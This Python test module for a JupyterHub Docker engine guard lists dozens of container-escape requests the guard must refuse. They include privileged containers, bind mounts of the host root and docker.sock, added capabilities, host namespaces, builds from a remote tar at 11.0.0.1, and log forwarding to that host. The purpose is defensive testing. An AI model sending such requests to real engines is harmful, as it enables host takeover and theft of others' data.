# Copyright (c) 2026, vdsg.jupyterhub contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways out of a taken-over hub through the engine guard: each must be refused, and nothing may come of it."""

from __future__ import annotations

import copy
import dataclasses
import json
import typing as t

# Run inside the hub's container: requests in, the status of each (or what went wrong) out.
SEND = """
import http.client, json, sys
def send(escape):
    connection = http.client.HTTPConnection("guard", 2375, timeout=15)
    try:
        body = escape["body"]
        headers = {"Content-Type": "application/json", **escape["headers"]}
        connection.request(escape["method"], escape["path"], body if body is None else body.encode(), headers)
        answer = connection.getresponse()
        return [answer.status, "" if answer.status == 101 else answer.read(300).decode(errors="replace")]
    except (OSError, http.client.HTTPException) as error:
        return [0, type(error).__name__ + ": " + str(error)]
    finally:
        connection.close()
print(json.dumps([send(escape) for escape in json.load(sys.stdin)]))
"""


SERVICES = "/services/create"


@dataclasses.dataclass(frozen=True)
class Place:
    """What an attacker in the hub knows: its own names."""

    name: str
    network: str
    image: str
    user: str
    home: str

    @property
    def container(self) -> str:
        return f"{self.name}-user-escape"

    def body(self) -> dict[str, t.Any]:
        """Return a create request as the spawner makes it, which every escape spoils in one point."""
        return {
            "Image": self.image,
            "Cmd": ["jupyterhub-singleuser"],
            "Env": ["JUPYTERHUB_USER=escape"],
            "Volumes": {self.home: {}},
            "ExposedPorts": {"8888/tcp": {}},
            "HostConfig": {"Binds": [f"{self.container}:{self.home}:rw"], "NetworkMode": self.network},
        }

    def service(self) -> dict[str, t.Any]:
        """Return a create request for a service as the spawner makes it."""
        return {
            "Name": self.container,
            "TaskTemplate": {
                "ContainerSpec": {
                    "Image": self.image,
                    "Args": ["jupyterhub-singleuser"],
                    "Env": ["JUPYTERHUB_USER=escape"],
                    "Mounts": [{"Type": "volume", "Source": self.container, "Target": self.home, "ReadOnly": False}],
                },
                "Resources": {"Limits": {}, "Reservations": {}},
                "Networks": [{"Target": self.network}],
                "Placement": {},
            },
            "EndpointSpec": {"Mode": "dnsrr"},
        }


@dataclasses.dataclass(frozen=True)
class Escape:
    """One request, and what it would win."""

    name: str
    method: str
    path: str
    why: str
    # What is changed in the body of a create request: dotted key -> value; None stands for a request without that body.
    spoil: dict[str, t.Any] | None = None
    body: t.Any = None
    headers: dict[str, str] = dataclasses.field(default_factory=dict)

    def request(self, place: Place) -> dict[str, t.Any]:
        """Return the request with the hub's own names filled in."""
        body = self.body
        if self.spoil is not None:
            body = place.service() if self.path == SERVICES else place.body()
            for dotted, value in self.spoil.items():
                target = body
                *outer, last = dotted.split(".")
                for key in outer:
                    target = target.setdefault(key, {})
                target[last] = copy.deepcopy(value)
        text = body if body is None or isinstance(body, str) else json.dumps(body)
        names = dataclasses.asdict(place) | {"container": place.container}
        path = self.path
        for key, value in names.items():
            path = path.replace(f"<{key}>", value)
            text = text and text.replace(f"<{key}>", value)
        return {"method": self.method, "path": path, "body": text, "headers": self.headers}


def _create(name: str, why: str, **spoil: t.Any) -> Escape:
    return Escape(name, "POST", "/containers/create?name=<container>", why, {key.replace("__", "."): value for key, value in spoil.items()})


ESCAPES = [
    _create("privileged", "every device and capability of the host", HostConfig__Privileged=True),
    _create("bind_root", "the host's files", HostConfig__Binds=["/:/host"]),
    _create("bind_socket", "the engine itself", HostConfig__Binds=["/var/run/docker.sock:/var/run/docker.sock"]),
    _create("bind_dots", "the host's files, by a detour", HostConfig__Binds=["<container>/../../../..:/host"]),
    _create("bind_foreign_volume", "the hub's database and cookie secret", HostConfig__Binds=["<name>-data:/home/jovyan/work"]),
    _create("bind_elsewhere", "own programs in place of the image's", HostConfig__Binds=["<container>:/usr/local/bin"]),
    _create("bind_propagation", "mounts that reach back to the host", HostConfig__Binds=["<container>:<home>:rw,rshared"]),
    _create("mount_root", "the host's files", HostConfig__Mounts=[{"Type": "bind", "Source": "/", "Target": "/host"}]),
    _create(
        "mount_foreign_volume",
        "the guard's own files",
        HostConfig__Mounts=[{"Type": "volume", "Source": "<name>-guard-files", "Target": "<home>"}],
    ),
    _create(
        "mount_driver_options",
        "a volume that is a path of the host",
        HostConfig__Mounts=[
            {
                "Type": "volume",
                "Source": "<container>",
                "Target": "<home>",
                "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}},
            }
        ],
    ),
    _create("volume_driver", "a driver that mounts what it likes", HostConfig__VolumeDriver="evil"),
    _create("volumes_from", "the guard's socket", HostConfig__VolumesFrom=["<name>-guard"]),
    _create("cap_add", "mounting, tracing, raw packets", HostConfig__CapAdd=["SYS_ADMIN"]),
    _create(
        "devices",
        "the host's disk",
        HostConfig__Devices=[{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda", "CgroupPermissions": "rwm"}],
    ),
    _create("device_rules", "any device, made by mknod", HostConfig__DeviceCgroupRules=["a *:* rwm"]),
    _create("device_requests", "devices by driver", HostConfig__DeviceRequests=[{"Driver": "nvidia", "Count": -1, "Capabilities": [["gpu"]]}]),
    _create("pid_host", "the host's processes", HostConfig__PidMode="host"),
    _create("pid_container", "the guard's process", HostConfig__PidMode="container:<name>-guard"),
    _create("ipc_host", "the host's shared memory", HostConfig__IpcMode="host"),
    _create("uts_host", "the host's name", HostConfig__UTSMode="host"),
    _create("userns_host", "no user namespace", HostConfig__UsernsMode="host"),
    _create("cgroupns_host", "the host's control groups", HostConfig__CgroupnsMode="host"),
    _create("cgroup_parent", "out of the limits", HostConfig__CgroupParent="/"),
    _create("network_host", "the host's network", HostConfig__NetworkMode="host"),
    _create("network_engine", "the network of the guard", HostConfig__NetworkMode="<name>-engine"),
    _create("network_hub", "the network of the proxy's API", HostConfig__NetworkMode="<name>-hub"),
    _create("network_container", "the network of the guard", HostConfig__NetworkMode="container:<name>-guard"),
    _create("second_network", "one network more", NetworkingConfig__EndpointsConfig={"<name>-engine": {}}),
    _create(
        "fixed_address",
        "an address that the firewall trusts",
        NetworkingConfig={"EndpointsConfig": {"<network>": {"IPAMConfig": {"IPv4Address": "172.31.248.2"}}}},
    ),
    _create("security_opt", "no seccomp, no AppArmor", HostConfig__SecurityOpt=["seccomp=unconfined", "apparmor=unconfined"]),
    _create("masked_paths", "the kernel's own files", HostConfig__MaskedPaths=["/none"], HostConfig__ReadonlyPaths=["/none"]),
    _create("sysctls", "the kernel's settings", HostConfig__Sysctls={"net.ipv4.ip_forward": "1"}),
    _create("runtime", "a program of the host run as root", HostConfig__Runtime="evil"),
    _create("ports", "a port of the host", HostConfig__PortBindings={"8888/tcp": [{"HostPort": "443"}]}),
    _create("links", "the address and environment of another container", HostConfig__Links=["<name>-guard:guard"]),
    _create("extra_hosts", "another name for somebody's address", HostConfig__ExtraHosts=["hub:169.254.169.254"]),
    _create("oom_off", "the host's memory", HostConfig__OomKillDisable=True),
    _create("ulimits", "limits of the engine's own choice", HostConfig__Ulimits=[{"Name": "nproc", "Soft": -1, "Hard": -1}]),
    _create(
        "log_driver",
        "a log that is sent or never ends",
        HostConfig__LogConfig={"Type": "syslog", "Config": {"syslog-address": "tcp://11.0.0.1:1"}},
    ),
    _create("root", "root inside", User="0"),
    _create("foreign_image", "an image that nobody allowed", Image="<name>-not-allowed:latest"),
    _create("foreign_label", "to be taken for a part of the hub", Labels={"vdsg.jupyterhub.component": "hub"}),
    _create("key_case", "a key that the engine reads in any case", hostconfig={"Privileged": True}),
    Escape("name_of_the_hub", "POST", "/containers/create?name=<name>-hub", "to be taken for the hub", spoil={}),
    Escape("name_of_nobody", "POST", "/containers/create?name=somebody-else", "a container that nobody looks for", spoil={}),
    Escape("no_name", "POST", "/containers/create", "a container that nobody looks for", spoil={}),
    Escape("two_names", "POST", "/containers/create?name=<container>&name=<name>-hub", "whichever the engine takes", spoil={}),
    Escape(
        "twice_the_key",
        "POST",
        "/containers/create?name=<container>",
        "whichever of two HostConfigs the engine takes",
        body='{"Image": "<image>", "HostConfig": {"NetworkMode": "<network>"}, "HostConfig": {"Privileged": true}}',
    ),
    Escape("not_json", "POST", "/containers/create?name=<container>", "a parser that gives up", body="{"),
    Escape("a_list", "POST", "/containers/create?name=<container>", "a parser that gives up", body="[]"),
    Escape("exec_in_guard", "POST", "/containers/<name>-guard/exec", "the process with the socket", body={"Cmd": ["id"]}),
    Escape(
        "exec_in_user",
        "POST",
        "/containers/<name>-user-<user>/exec",
        "root in a user's server",
        body={"Cmd": ["id"], "User": "0", "Privileged": True},
    ),
    Escape(
        "attach",
        "POST",
        "/containers/<name>-guard/attach?stream=1&stdin=1",
        "the guard's terminal",
        headers={"Upgrade": "tcp", "Connection": "Upgrade"},
    ),
    Escape("inspect_guard", "GET", "/containers/<name>-guard/json", "what the guard is made of"),
    Escape("list_containers", "GET", "/containers/json?all=1", "what else runs here"),
    Escape("logs_of_hub", "GET", "/containers/<name>-guard/logs?stdout=1", "what others do"),
    Escape("stop_guard", "POST", "/containers/<name>-guard/stop", "a guard that is not there"),
    Escape("kill_firewall", "POST", "/containers/<name>-firewall/kill", "a firewall that is not there"),
    Escape("restart_proxy", "POST", "/containers/<name>-proxy/restart", "everybody's sockets"),
    Escape("remove_edge", "DELETE", "/containers/<name>-edge?force=1", "everybody's door"),
    Escape("rename", "POST", "/containers/<name>-user-<user>/rename?name=<name>-hub", "to be taken for the hub"),
    Escape("update_guard", "POST", "/containers/<name>-guard/update", "a guard without memory", body={"Memory": 4194304}),
    Escape("copy_into", "PUT", "/containers/<name>-guard/archive?path=/", "own files in the guard", body=""),
    Escape("copy_out_of", "GET", "/containers/<name>-proxy/archive?path=/etc/proxy", "the proxy's token"),
    Escape("commit", "POST", "/commit?container=<name>-guard&repo=<image>", "an image under an allowed name"),
    Escape("build", "POST", "/build?t=<image>&remote=http://11.0.0.1/x.tar", "an image under an allowed name"),
    Escape("load", "POST", "/images/load", "an image under an allowed name", body=""),
    Escape("pull", "POST", "/images/create?fromImage=evil&tag=latest", "any image of the world"),
    Escape("tag", "POST", "/images/<name>-not-allowed:latest/tag?repo=<image>", "an image under an allowed name"),
    Escape("remove_image", "DELETE", "/images/<image>", "nobody starts any more"),
    Escape("create_network", "POST", "/networks/create", "a way around the firewall", body={"Name": "<name>-escape", "Driver": "bridge"}),
    Escape("join_network", "POST", "/networks/<name>-engine/connect", "the network of the guard", body={"Container": "<name>-user-<user>"}),
    Escape("leave_network", "POST", "/networks/<network>/disconnect", "a hub without users", body={"Container": "<name>-hub", "Force": True}),
    Escape(
        "create_volume",
        "POST",
        "/volumes/create",
        "a volume that is the host's root",
        body={"Name": "<container>", "Driver": "local", "DriverOpts": {"type": "none", "o": "bind", "device": "/"}},
    ),
    Escape("remove_volume", "DELETE", "/volumes/<name>-data?force=1", "everybody's accounts"),
    # The label saves a careless engine from what it is asked for.
    Escape("prune", "POST", "/volumes/prune?filters=%7B%22label%22%3A%5B%22vdsg.jupyterhub.escape%22%5D%7D", "everybody's work"),
    Escape("swarm", "GET", "/swarm", "the keys of a swarm"),
    Escape(
        "service",
        "POST",
        "/services/create",
        "a container with any mount",
        body={"Name": "<name>-escape", "TaskTemplate": {"ContainerSpec": {"Image": "<image>"}}},
    ),
    Escape("plugin", "POST", "/plugins/pull?remote=evil", "a program of the host run as root", body=[]),
    Escape("secrets", "GET", "/secrets", "secrets of others"),
    Escape("info", "GET", "/info", "all about the host"),
    Escape("events", "GET", "/events?until=1", "what others do"),
    Escape("path_dots", "GET", "/containers/<name>-user-<user>/../<name>-guard/json", "another container behind an allowed one"),
    Escape("path_encoded", "GET", "/containers/<name>-user-<user>%2f..%2f<name>-guard/json", "another container behind an allowed one"),
    Escape("path_double_slash", "GET", "//containers//<name>-guard//json", "a path that a pattern does not match"),
    Escape("version_prefix", "GET", "/v1.24/v1.24/containers/json", "a path that a pattern does not match"),
    Escape("absolute_form", "GET", "http://guard:2375/containers/json", "a path that a pattern does not match"),
    Escape("method_override", "GET", "/containers/<name>-guard/stop", "a method that is not judged", headers={"X-HTTP-Method-Override": "POST"}),
    Escape("session", "POST", "/session", "a builder with the host's files", headers={"Upgrade": "h2c", "Connection": "Upgrade"}),
]


def _service(name: str, why: str, **spoil: t.Any) -> Escape:
    """Return an escape that spoils a service in one point; keys are written with __ for dots, those of the container's specification after Spec_."""
    places = {key.replace("__", ".").replace("Spec_", "TaskTemplate.ContainerSpec."): value for key, value in spoil.items()}
    return Escape(f"service_{name}", "POST", SERVICES, why, spoil=places)


FILE = {"Name": "x", "UID": "0", "GID": "0", "Mode": 292}

SERVICE_ESCAPES = [
    _service("bind", "the host's files", Spec_Mounts=[{"Type": "bind", "Source": "/", "Target": "/home/jovyan/work"}]),
    _service("npipe", "the engine", Spec_Mounts=[{"Type": "npipe", "Source": "/var/run/docker.sock", "Target": "/home/jovyan/work"}]),
    _service("foreign_volume", "everybody's accounts", Spec_Mounts=[{"Type": "volume", "Source": "<name>-data", "Target": "/home/jovyan/work"}]),
    _service(
        "volume_driver",
        "a volume that is the host's root",
        Spec_Mounts=[
            {
                "Type": "volume",
                "Source": "<container>",
                "Target": "/home/jovyan/work",
                "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}},
            }
        ],
    ),
    _service("other_place", "a program of the image replaced", Spec_Mounts=[{"Type": "volume", "Source": "<container>", "Target": "/usr/bin"}]),
    _service(
        "secret",
        "the hub's secrets",
        Spec_Secrets=[{"SecretName": "<name>-hub", "SecretID": "x" * 25, "File": FILE}],
    ),
    _service(
        "config",
        "the guard's policy",
        Spec_Configs=[{"ConfigName": "<name>-guard", "ConfigID": "x" * 25, "File": FILE}],
    ),
    _service("capability", "the packet filter", Spec_CapabilityAdd=["CAP_SYS_ADMIN"]),
    _service("root", "root inside", Spec_User="0"),
    _service("group", "the group of the socket", Spec_Groups=["0"]),
    _service("entrypoint", "a program of its own", Spec_Command=["/bin/sh", "-c", "id"]),
    _service("foreign_image", "an image that nobody allowed", Spec_Image="<name>-not-allowed:latest"),
    _service("privileges", "no confinement", Spec_Privileges={"SELinuxContext": {"Disable": True}}),
    _service("sysctls", "the kernel's settings", Spec_Sysctls={"net.ipv4.ip_forward": "1"}),
    _service("ulimits", "limits of its own choice", Spec_Ulimits=[{"Name": "nproc", "Soft": -1, "Hard": -1}]),
    _service("hosts", "another name for somebody's address", Spec_Hosts=["169.254.169.254 hub"]),
    _service("dns", "another name server", Spec_DNSConfig={"Nameservers": ["11.0.0.1"]}),
    _service("isolation", "no confinement", Spec_Isolation="process"),
    _service("container_label", "to be taken for a part of the hub", Spec_Labels={"vdsg.jupyterhub.component": "hub"}),
    _service("label", "to be taken for a part of the hub", Labels={"vdsg.jupyterhub.component": "guard"}),
    _service("stack_label", "to be taken for a part of the stack", Labels={"com.docker.stack.namespace": "<name>"}),
    _service("network", "the network of the guard", TaskTemplate__Networks=[{"Target": "<name>_engine"}]),
    _service("network_host", "the host's network", TaskTemplate__Networks=[{"Target": "host"}]),
    _service("second_network", "one network more", Networks=[{"Target": "<name>_hub"}]),
    _service("network_alias", "to be taken for the hub", TaskTemplate__Networks=[{"Target": "<network>", "Aliases": ["hub"]}]),
    _service("port", "a port of every node", EndpointSpec__Ports=[{"TargetPort": 8888, "PublishedPort": 443, "Protocol": "tcp"}]),
    _service("global", "a server on every node", Mode={"Global": {}}),
    _service("many", "a hundred servers", Mode={"Replicated": {"Replicas": 100}}),
    _service("job", "a job on every node", Mode={"GlobalJob": {}}),
    _service("constraint", "a node of its own choice", TaskTemplate__Placement__Constraints=["node.role==manager"]),
    _service("plugin", "a program of the host run as root", TaskTemplate__Runtime="plugin", TaskTemplate__PluginSpec={"Name": "evil", "Remote": "evil"}),
    _service("log_driver", "a log that is sent", TaskTemplate__LogDriver={"Name": "syslog", "Options": {"syslog-address": "tcp://11.0.0.1:1"}}),
    _service("generic", "devices of others", TaskTemplate__Resources__Reservations__GenericResources=[{"DiscreteResourceSpec": {"Kind": "gpu", "Value": 1}}]),
    _service("name_of_the_hub", "to be taken for the hub", Name="<name>_hub"),
    _service("name_of_nobody", "a service that nobody looks for", Name="somebody-else"),
    Escape("service_twice_the_key", "POST", SERVICES, "whichever the engine takes", body='{"Name": "<container>", "TaskTemplate": {}, "tasktemplate": {}}'),
    Escape("service_update", "POST", "/services/<name>_guard/update?version=1", "a guard that lets all through", body={"Name": "<name>_guard"}),
    Escape("service_remove", "DELETE", "/services/<name>_guard", "a guard that is not there"),
    Escape("service_inspect", "GET", "/services/<name>_guard", "what the guard is made of"),
    Escape("service_list", "GET", "/services", "what else runs here"),
    Escape("service_logs", "GET", "/services/<name>_guard/logs?stdout=1", "what others do"),
    Escape("tasks", "GET", "/tasks", "what else runs here"),
    Escape("tasks_of_the_hub", "GET", "/tasks?filters=%7B%22service%22%3A%5B%22<name>_hub%22%5D%7D", "where the hub is"),
    Escape("tasks_of_all", "GET", "/tasks?filters=%7B%22service%22%3A%5B%22%22%5D%7D", "what else runs here"),
    Escape("nodes", "GET", "/nodes", "what the swarm is made of"),
    Escape("promote", "POST", "/nodes/x/update?version=1", "a manager of one's own", body={"Role": "manager", "Availability": "active"}),
    Escape("leave", "POST", "/swarm/leave?force=true", "no swarm"),
    Escape("unlock_key", "GET", "/swarm/unlockkey", "the keys of a swarm"),
    Escape("read_config", "GET", "/configs", "the guard's policy"),
    Escape("create_secret", "POST", "/secrets/create", "a secret of its own", body={"Name": "x", "Data": ""}),
]
"""Ways out through services, on every target: where there are none, the guard knows none of them."""

ALLOWED = {
    "docker": [
        (Escape("version", "GET", "/version", ""), 200),
        (Escape("own server", "GET", "/containers/<name>-user-<user>/json", ""), 200),
        (Escape("create", "POST", "/containers/create?name=<container>", "", {"HostConfig.Binds": [], "Volumes": {}}), 201),
        (Escape("remove", "DELETE", "/containers/<container>?v=true&force=true", ""), 204),
    ],
    "swarm": [
        (Escape("version", "GET", "/version", ""), 200),
        (Escape("own server", "GET", "/services/<name>-user-<user>", ""), 200),
        (Escape("own tasks", "GET", "/tasks?filters=%7B%22service%22%3A%5B%22<name>-user-<user>%22%5D%7D", ""), 200),
        (Escape("create", "POST", SERVICES, "", {"TaskTemplate.ContainerSpec.Mounts": []}), 201),
        (Escape("remove", "DELETE", "/services/<container>", ""), 200),
    ],
}
"""What the spawner of a target needs: requests, and the engine's answers."""
